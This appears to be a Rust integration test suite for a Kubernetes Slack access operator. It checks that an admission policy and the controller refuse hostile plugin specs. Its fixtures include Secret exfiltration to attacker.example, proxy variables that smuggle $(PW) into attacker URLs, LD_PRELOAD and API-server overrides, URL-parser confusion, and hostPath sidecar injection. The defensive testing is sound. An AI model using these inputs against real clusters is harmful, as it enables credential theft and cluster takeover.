//! Authors who may write `SlackAccessPlugin` objects and nothing else, on a real API server: what they try, and what becomes of it.

use k8s_openapi::api::admissionregistration::v1::{ValidatingAdmissionPolicy, ValidatingAdmissionPolicyBinding};
use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
use kube::api::{Patch, PatchParams, PostParams};
use kube::{Api, Client, ResourceExt as _};
use serde_json::{Value, json};
use slack_access_operator::controller::policy::Policy;
use slack_access_operator::crd::SlackAccessPlugin;

use crate::chart;
use crate::room::{CHILD, Room, minimal, with, with_variable, with_workload};
use crate::support::eventually;

/// The chart's image, which the admission policy lets an author name.
const OWN_IMAGE: &str = concat!("ghcr.io/slackaccess/slack-access-operator:", env!("CARGO_PKG_VERSION"));

/// A user with the right to create, get, list and patch the kind in this room.
async fn author(room: &Room) -> Api<SlackAccessPlugin> {
    let user = format!("author-of-{}", room.namespace);
    let role = json!({
        "metadata": {"name": "author"},
        "rules": [{"apiGroups": ["slackaccess.dev"], "resources": ["slackaccessplugins"], "verbs": ["create", "get", "list", "patch"]}],
    });
    let binding = json!({
        "metadata": {"name": "author"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "author"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}],
    });
    room.api::<Role>().create(&PostParams::default(), &serde_json::from_value(role).unwrap()).await.unwrap();
    room.api::<RoleBinding>().create(&PostParams::default(), &serde_json::from_value(binding).unwrap()).await.unwrap();
    Api::namespaced(room.cluster.client_as(&user, &["system:authenticated"]), &room.namespace)
}

/// Installs the chart's policy for authors in this room, and waits until it is in force.
async fn install_policy(room: &Room, values: &[&str], refused: &Value) {
    let [policy, binding] = chart::rendered(&room.namespace, &["admission-authors.yaml"], values).try_into().unwrap();
    install(&room.client, policy, binding).await;
    eventually("the admission policy to be in force", async || {
        let dry_run = PatchParams { dry_run: true, ..PatchParams::apply("tester").force() };
        let tried = room.plugins().patch("probe", &dry_run, &Patch::Apply(named("probe", refused))).await;
        tried.is_err().then_some(())
    })
    .await;
}

pub async fn install(client: &Client, policy: Value, binding: Value) {
    let policy: ValidatingAdmissionPolicy = serde_json::from_value(policy).unwrap();
    let binding: ValidatingAdmissionPolicyBinding = serde_json::from_value(binding).unwrap();
    Api::all(client.clone()).create(&PostParams::default(), &policy).await.unwrap();
    Api::all(client.clone()).create(&PostParams::default(), &binding).await.unwrap();
}

fn named(name: &str, plugin: &Value) -> Value {
    let mut plugin = plugin.clone();
    plugin["metadata"]["name"] = json!(name);
    plugin
}

fn exfiltrating() -> Value {
    with(
        "/spec/slack",
        json!({"token": {"secretRef": {"name": "database", "key": "password"}}, "apiUrl": "https://attacker.example/api/"}),
    )
}

/// What the definition takes and no policy does.
fn through_a_proxy() -> Value {
    let mut plugin = with_variable(json!({"name": "http_proxy", "value": "http://attacker.example:3128"}));
    plugin["spec"]["slack"]["apiUrl"] = json!("http://slack.com/api/");
    plugin
}

/// What an author tries, the object, and a word of the refusal.
type Attempt = (&'static str, Value, &'static str);

/// What no policy allows.
fn never_allowed() -> Vec<Attempt> {
    let variables = [
        (
            "a variable from a Secret",
            json!({"name": "HTTPS_PROXY", "valueFrom": {"secretKeyRef": {"name": "database", "key": "password"}}}),
            "literal values",
        ),
        (
            "a variable that inserts another",
            json!({"name": "HTTPS_PROXY", "value": "http://$(PW):x@attacker.example"}),
            "literal values",
        ),
        (
            "a variable that replaces a setting",
            json!({"name": "TELEPORT_SLACK_SLACK_API_URL", "value": "http://attacker.example/$(PW)/"}),
            "these variables only",
        ),
        (
            "a library from a ConfigMap",
            json!({"name": "LD_PRELOAD", "value": "/var/run/slack-access-operator/configmaps/x/x.so"}),
            "these variables only",
        ),
        ("a kubeconfig with a program to run", json!({"name": "KUBECONFIG", "value": "/x"}), "these variables only"),
        (
            "another API server",
            json!({"name": "KUBERNETES_SERVICE_HOST", "value": "attacker.example"}),
            "these variables only",
        ),
        (
            "a mounted file as an authority for everything",
            json!({"name": "SSL_CERT_FILE", "value": "/var/run/slack-access-operator/configmaps/mine/ca.crt"}),
            "a file of the image",
        ),
    ];
    let urls = [
        ("a host with a user", "https://slack.com@attacker.example/"),
        ("a host that parsers read differently", "https://attacker.example\\@slack.com/"),
        ("a host with an escape", "https://slack.com%2fattacker.example/"),
    ];
    let variables = variables.into_iter().map(|(what, written, word)| (what, with_variable(written), word));
    let urls = urls.into_iter().map(|(what, url)| (what, with("/spec/slack/apiUrl", json!(url)), "apiUrl"));
    variables.chain(urls).chain([("a proxy that reads the token", through_a_proxy(), "apiUrl")]).collect()
}

/// What the default policy does not allow.
fn allowed_by_choice() -> Vec<Attempt> {
    let tls = json!({"address": "a:443", "tls": {"secretRef": {"name": "database"}}});
    let join = json!({"address": "attacker.example:443", "join": {"token": "slack", "audience": "sts.amazonaws.com"}});
    let joining = with("/spec/teleport", join);
    let bundle = |kind: &str, name: &str| json!({kind: {"name": name}});
    let url = |url: &str| with("/spec/slack/apiUrl", json!(url));
    vec![
        ("any Secret, sent to the attacker", exfiltrating(), "attacker.example"),
        ("a ServiceAccount token for another's audience", joining, "joinAddresses"),
        ("another image", with_workload("image", json!("attacker.example/x:1")), "attacker.example/x:1"),
        (
            "the image's repository on another registry",
            with_workload("image", json!(format!("attacker.example/{OWN_IMAGE}"))),
            "attacker.example",
        ),
        (
            "another application's Secret, sent to Slack",
            with("/spec/slack/token/secretRef/name", json!("database")),
            "database",
        ),
        ("one as an identity", with("/spec/teleport/identity/secretRef/name", json!("database")), "database"),
        ("one as TLS files", with("/spec/teleport", tls), "database"),
        ("one as authorities", with("/spec/teleport/caBundle", bundle("secretRef", "database")), "database"),
        (
            "an authority of one's own for Slack",
            with("/spec/slack/caBundle", bundle("configMapRef", "mine")),
            "caBundle",
        ),
        (
            "the cluster's authority for Slack",
            with("/spec/slack/caBundle", bundle("configMapRef", "kube-root-ca.crt")),
            "caBundle",
        ),
        ("the token in the clear", url("http://slack.com/api/"), "TLS"),
        ("a host that begins like Slack's", url("https://slack.com.attacker.example/"), "slack.com.attacker.example"),
        ("an address of the node", url("https://[::1]:10250/"), "apiUrl"),
        ("an injector's label", with_workload("labels", json!({"sidecar.istio.io/inject": "true"})), "labels"),
        (
            "an injector's annotation",
            with_workload("annotations", json!({"sidecar.istio.io/userVolume": "[{\"hostPath\":{\"path\":\"/\"}}]"})),
            "annotations",
        ),
        (
            "a role of the cloud",
            with_workload("serviceAccount", json!({"annotations": {"eks.amazonaws.com/role-arn": "arn:admin"}})),
            "serviceAccount.annotations",
        ),
        (
            "a priority that evicts others",
            with_workload("priorityClassName", json!("system-node-critical")),
            "priorityClassName",
        ),
        ("the control plane's nodes", with_workload("tolerations", json!([{"operator": "Exists"}])), "tolerations"),
        (
            "another application's registry",
            with_workload("imagePullSecrets", json!([{"name": "registry"}])),
            "imagePullSecrets",
        ),
    ]
}

fn said<T: std::fmt::Debug>(result: Result<T, kube::Error>) -> String {
    match result {
        Err(kube::Error::Api(status)) => status.message.clone(),
        other => panic!("not refused: {other:?}"),
    }
}

#[tokio::test]
async fn an_author_gets_nothing_at_admission_that_the_policy_does_not_allow() {
    let room = Room::new().await;
    let plugins = author(&room).await;
    install_policy(&room, &[], &exfiltrating()).await;
    let apply = PatchParams::apply("author").force();
    let allowed = [
        minimal(),
        with("/spec/slack/apiUrl", json!("https://slack-gov.com/api/")),
        with_workload("image", json!(OWN_IMAGE)),
        with_variable(json!({"name": "HTTPS_PROXY", "value": "http://proxy.example:3128"})),
        with("/spec/teleport/caBundle", json!({"configMapRef": {"name": "company-ca"}})),
    ];
    for plugin in &allowed {
        plugins.patch("slack", &apply, &Patch::Apply(plugin)).await.unwrap_or_else(|error| panic!("{plugin}: {error}"));
    }
    for (what, plugin, word) in never_allowed().into_iter().chain(allowed_by_choice()) {
        let created = said(plugins.patch("new", &apply, &Patch::Apply(named("new", &plugin))).await);
        assert!(created.contains(word), "{what}: {created}");
        // The way that does not look like a new object.
        let spec = json!({"spec": plugin["spec"]});
        let changed = plugins.patch("slack", &PatchParams::default(), &Patch::Merge(spec)).await;
        // A merge keeps the identity beside TLS files, which the definition refuses by itself.
        let changed = said(changed);
        assert!(changed.contains(word) || changed.contains("exactly one of"), "{what}: {changed}");
    }
}

#[tokio::test]
async fn an_object_from_before_the_policy_can_still_be_labelled_and_deleted() {
    let room = Room::new().await;
    let mut before = exfiltrating();
    before["metadata"]["finalizers"] = json!(["example.com/wait"]);
    room.apply(&before).await.unwrap();
    install_policy(&room, &[], &exfiltrating()).await;
    let label = Patch::Merge(json!({"metadata": {"labels": {"team": "infra"}}}));
    room.plugins().patch("slack", &PatchParams::default(), &label).await.unwrap();
    room.plugins().delete("slack", &kube::api::DeleteParams::default()).await.unwrap();
    let freed = Patch::Merge(json!({"metadata": {"finalizers": null}}));
    room.plugins().patch("slack", &PatchParams::default(), &freed).await.unwrap();
    room.until_gone::<SlackAccessPlugin>("slack").await;
}

#[tokio::test]
async fn a_single_team_is_held_to_what_no_policy_allows_only() {
    let room = Room::new().await;
    let plugins = author(&room).await;
    install_policy(&room, &["policy.profile=\"singleTeam\""], &through_a_proxy()).await;
    let apply = PatchParams::apply("author").force();
    for (what, plugin, word) in never_allowed() {
        let refused = said(plugins.patch("slack", &apply, &Patch::Apply(&plugin)).await);
        assert!(refused.contains(word), "{what}: {refused}");
    }
    for (what, plugin, _) in allowed_by_choice() {
        plugins.patch("slack", &apply, &Patch::Apply(&plugin)).await.unwrap_or_else(|error| panic!("{what}: {error}"));
    }
}

/// Where no admission policy can be had, and for objects from before it.
#[tokio::test]
async fn the_operator_itself_runs_nothing_that_the_policy_does_not_allow() {
    let room = Room::new().await;
    let user = format!("strict-{}", room.namespace);
    let client = room.cluster.client_as(&user, &["system:masters"]);
    let controller = room.start_controller_under(Policy::default(), client, user);
    room.apply(&exfiltrating()).await.unwrap();
    let status = room.until_ready_is("False", "PolicyRefused").await;
    let message = &status.condition("Ready").unwrap().message;
    assert!(
        message.contains("spec.slack.apiUrl") && message.contains("Secret `database` may not be mounted"),
        "{message}"
    );
    assert_eq!(status.condition("Stalled").unwrap().status, "True");
    assert!(room.api::<Deployment>().get_opt(CHILD).await.unwrap().is_none());

    room.apply(&minimal()).await.unwrap();
    let allowed = room.until::<Deployment>(CHILD, "the Deployment of the allowed spec", |_| true).await;
    // What is refused now leaves what was allowed under the same policy.
    room.apply(&exfiltrating()).await.unwrap();
    room.until_ready_is("False", "PolicyRefused").await;
    let kept = room.api::<Deployment>().get(CHILD).await.unwrap();
    assert_eq!((kept.uid(), kept.metadata.generation), (allowed.uid(), allowed.metadata.generation));
    controller.stop().await;
}

#[tokio::test]
async fn a_worker_from_before_the_policy_is_stopped_when_its_object_breaks_it() {
    let room = Room::new().await;
    let before = room.start_controller("before");
    room.apply(&exfiltrating()).await.unwrap();
    let mut fine = minimal();
    fine["spec"]["pluginName"] = json!("fine");
    room.apply(&named("fine", &fine)).await.unwrap();
    room.until::<Deployment>(CHILD, "the Deployment", |_| true).await;
    let fine = room.until::<Deployment>("slack-access-fine", "the other Deployment", |_| true).await;
    before.stop().await;

    let user = format!("after-{}", room.namespace);
    let client = room.cluster.client_as(&user, &["system:masters"]);
    let after = room.start_controller_under(Policy::default(), client, user);
    room.until_ready_is("False", "PolicyRefused").await;
    room.until_gone::<Deployment>(CHILD).await;
    let policy = "slackaccess.dev/policy";
    let kept = room
        .until::<Deployment>("slack-access-fine", "the allowed worker under the new policy", |found| {
            found.annotations().get(policy) != fine.annotations().get(policy)
        })
        .await;
    assert_eq!((kept.uid(), kept.spec), (fine.uid(), fine.spec), "its pods are not replaced");
    after.stop().await;
}

#[tokio::test]
async fn what_others_put_into_a_workers_pod_is_named_in_a_condition() {
    let room = Room::new().await;
    let controller = room.start_controller("foreign");
    room.apply(&minimal()).await.unwrap();
    room.until::<Deployment>(CHILD, "the Deployment", |_| true).await;
    let sidecar = json!({"spec": {"template": {"spec": {"shareProcessNamespace": true, "containers": [
        {"name": "worker", "env": [{"name": "LD_PRELOAD", "value": "/x.so"}]},
        {"name": "watcher", "image": "example.com/watcher:1", "securityContext": {
            "allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}}},
    ]}}}});
    room.api::<Deployment>().patch(CHILD, &PatchParams::default(), &Patch::Strategic(sidecar)).await.unwrap();
    let plugin = room
        .until::<SlackAccessPlugin>("slack", "the condition", |plugin| {
            let status = plugin.status.clone().unwrap_or_default();
            status.condition("WorkloadModified").is_some_and(|modified| modified.status == "True")
        })
        .await;
    let message = plugin.status.unwrap().condition("WorkloadModified").unwrap().message.clone();
    for named in ["container `watcher`", "shareProcessNamespace", "variable `LD_PRELOAD`"] {
        assert!(message.contains(named), "{message}");
    }
    controller.stop().await;
}
